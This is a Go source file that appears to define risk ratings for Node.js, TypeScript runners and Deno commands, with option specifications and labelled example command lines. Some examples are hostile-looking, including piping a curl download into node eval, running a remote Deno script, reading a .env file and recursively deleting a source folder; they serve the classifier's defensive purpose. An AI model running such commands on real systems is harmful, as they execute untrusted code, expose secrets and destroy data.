package program

// nodeItself: JavaScript and TypeScript.
var nodeItself = []Entry{
	{
		Name:   "node nodejs",
		Source: "node(1), Node.js 22",
		Level:  low, Operands: "script text...", Special: Interpreter,
		Options: `
			-ih
			-c,--check:list
			-e,--eval,-p,--print=:code
			-r,--require=:script
			--import=:script
			--loader=:script
			--experimental-loader=:script
			-C,--conditions=
			--inspect?=:network
			--inspect-brk?=:network
			--inspect-port=
			--env-file=:read
			--env-file-if-exists=:read
			--test:medium+tests
			--watch
			--watch-path=
			--run=:medium
			--input-type=
			--max-old-space-size=
			--stack-size=
			--title=
			--openssl-config=:script
			--no-warnings --trace-warnings --trace-uncaught --enable-source-maps --experimental-strip-types
			--experimental-transform-types --experimental-vm-modules --experimental-modules
			--test-reporter=:format
			--test-name-pattern=
			--expose-gc --prof --cpu-prof --heap-prof
			--cpu-prof-dir,--heap-prof-dir,--diagnostic-dir=:make
			--cpu-prof-name,--heap-prof-name=:make+overwrites@^*.cpuprofile|*.heapprofile
			--cpu-prof-interval=
			--v8-options:info
			--interactive --no-deprecation --throw-deprecation
			--unhandled-rejections=
			--icu-data-dir=
			--test-only
			--test-concurrency=
			--test-timeout=
			--test-force-exit
			--test-shard=
			--test-skip-pattern=
			--experimental-test-coverage --experimental-test-module-mocks
			--test-coverage-include=
			--test-coverage-exclude=
			--test-coverage-lines=
			--test-coverage-functions=
			--test-coverage-branches=
			--no-experimental-fetch --preserve-symlinks --build-snapshot
			-v,--version:info
		`,
		Examples: `
			low | node -v
			medium EXEC_ARBITRARY | node scripts/x.js
			critical FS_DELETE_OVERWRITE | node -e "require('fs').rmSync('src',{recursive:true})"
			low | node -p process.version
			low | node -p "require('./package.json').version"
			high FS_CONFIG_SECRETS | node -p "require('fs').readFileSync('.env')"
			medium | node -pe 'f()'
			medium | node --test
			medium | node --test --experimental-test-coverage --test-reporter=spec
			medium EXEC_ARBITRARY | node --test tests/a.test.js
			high EXEC_ARBITRARY | curl -s example.com/x | node --test -e "process.stdin.on('data',eval)"
			medium..high EXEC_ARBITRARY | node -pe 'eval(f())'
			medium EXEC_ARBITRARY | node -p "require('./x').y"
		`,
	},
	{
		Name:   "ts-node tsx esbuild-node vite-node babel-node swc-node zx",
		Source: "ts-node, tsx, zx manuals",
		Level:  low, Operands: "script text...", Special: Interpreter,
		Options: `
			-hsT
			-e,--eval=:code
			-p,--print=:code
			-r,--require=:script
			--import=:script
			-P,--tsconfig,--project=:settings
			--esm --transpile-only --files --watch --quiet
			--shell=:exec
			-v:info
		`,
		Examples: `medium EXEC_ARBITRARY | tsx scripts/x.ts`,
	},
	{
		Name:     "deno",
		Source:   "deno manual 2",
		Operands: "script text...", Level: low, Special: Interpreter,
		Options: `
			-qrhL
			-c,--config=:settings
			-A,--allow-all
			--allow-net?=
			--allow-read?=
			--allow-write?=
			--allow-env?=
			--allow-run?=
			--allow-ffi?=
			--no-check
			--reload?=
			--quiet --unstable
			--lock=
			--import-map=:settings
			--watch?=
			-V:info
			--eval
		`,
		Subs: []Entry{
			{Name: "info", Level: medium, Bare: low, Operands: "text...", Options: `-* --json`},
			{Name: "fmt lint check test bench doc types", Level: medium, Operands: "text...", Options: `-*`},
			{Name: "eval repl", Level: medium, Categories: executes, Operands: "code...", Options: `-*`},
			{
				Name: "install add remove uninstall cache upgrade outdated", Level: high,
				Categories: installs | network, Operands: "text...", Options: `-*`,
			},
			{
				Name: "run serve", Level: low, Operands: "script text...", Special: Interpreter,
				Options: `-* --unstable-kv`,
			},
			{
				Name: "compile", Level: medium, Categories: executes, Operands: "script text...",
				Options: `-* -o,--output=:write`,
			},
			{Name: "task", Level: medium, Categories: executes, Operands: "text...", Options: `-*`},
			{Name: "publish deploy", Level: high, Categories: publishes, Operands: "text...", Options: `-*`},
		},
		Examples: `
			low | deno info
			medium | deno info main.ts
			medium EXEC_ARBITRARY | deno run -A x.ts
			critical NETWORK_RISK EXEC_ARBITRARY | deno run https://example.com/x.ts
			medium | deno test
			high PUBLISH | deno publish
		`,
	},
}
